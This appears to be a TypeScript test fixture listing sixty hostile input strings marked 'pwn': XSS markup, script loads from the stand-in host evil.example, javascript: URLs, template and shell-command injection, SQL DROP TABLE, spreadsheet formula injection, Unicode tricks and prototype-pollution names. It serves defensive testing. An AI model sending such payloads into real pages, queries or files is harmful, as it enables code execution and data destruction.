/** Sixty texts that somebody hostile sends as a path, a name or a title: each holds `pwn`, and its markup would make an element of that class. */

const RUN = 'pwned=1';

const MARKUP = [
  `<script>${RUN}//pwn</script>`,
  `"><script src=https://evil.example/pwn.js></script>`,
  `<img class=pwn src=x onerror="${RUN}">`,
  `'><img class=pwn src=x onerror='${RUN}'>`,
  `<svg class=pwn onload="${RUN}"></svg>`,
  `<svg class=pwn><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a class=pwn xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math class=pwn><mtext><style><img src=x onerror="${RUN}">`,
  `<iframe class=pwn srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe class=pwn src="javascript:parent.${RUN}"></iframe>`,
  `<object class=pwn data="data:text/html,pwn"></object>`,
  `<embed class=pwn src="https://evil.example/pwn">`,
  `<base class=pwn href="https://evil.example/">`,
  `<meta class=pwn http-equiv=refresh content="0;url=https://evil.example">`,
  `<link class=pwn rel=stylesheet href=https://evil.example/pwn.css>`,
  `<style class=pwn>*{display:none}</style>`,
  `<form class=pwn action=https://evil.example><button>pwn</button></form>`,
  `<details class=pwn open ontoggle="${RUN}">`,
  `<template class=pwn><slot></slot></template>`,
  `</title></textarea></bdi><b class=pwn onclick="${RUN}">`,
  `<!--><b class=pwn>--!><![CDATA[pwn]]>`,
  `&lt;b class=pwn&gt;&#60;script&#62;${RUN}//pwn`,
  `\\u003cscript\\u003e${RUN}//pwn`,
];
const ADDRESSES = [
  `javascript:${RUN}//pwn`,
  `JaVaScRiPt\u0009:${RUN}//pwn`,
  `\u0001javascript:${RUN}//pwn`,
  `data:text/html,<script>${RUN}</script>pwn`,
  `vbscript:msgbox("pwn")`,
  `//evil.example/pwn`,
  `/\\evil.example/pwn`,
  `https://evil.example/?pwn#<b class=pwn>`,
  `https://user:pwn@evil.example:99999/`,
];
const TEMPLATES = [
  `{{constructor.constructor("${RUN}")()}}pwn`,
  `\${${RUN}}pwn`,
  `<%= pwn %>#{pwn}{%pwn%}`,
  `';${RUN}//pwn`,
  `"+(${RUN})+"pwn`,
  `$(touch pwn)\`touch pwn\`'; touch pwn #`,
  `' OR 1=1; DROP TABLE pwn; --`,
];
const WRITING = [
  '\u202Epwn gpj.exe',
  '\u2066\u2067\u2068pwn not closed',
  '\u05D0\u05D1\u05D2 pwn \u0645\u0631\u062D\u0628\u0627',
  'p\u200Bw\u200Cn\u200D\uFEFF pwn',
  '\u0007\u0008\u001B[31mpwn\u007F',
  'pwn\u0000null',
  'pwn\u2028line\u2029paragraph',
  'pwn\r\nSet-Cookie: a=b',
  'pwn \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66\uD83C\uDFF4\u200D\u2620\uFE0F',
  `pwn${'Z\u0335\u0321\u0348'.repeat(20)}`,
  `pwn${'W'.repeat(2_045)}`,
];
const FORMULAS = [
  '=cmd|"/c calc"!pwn',
  '+1+pwn',
  '-1-pwn',
  '@SUM(pwn)',
  '\t=pwn()',
  '\r=pwn()',
  '\uFF1Dpwn()',
  ';=pwn(),"=pwn()"',
];
const NAMES = ['__proto__ pwn', 'constructor.prototype.pwn'];

export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...TEMPLATES,
  ...WRITING,
  ...FORMULAS,
  ...NAMES,
];

/** Names that objects have of themselves; they hold nothing else. */
export const OWN_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'] as const;
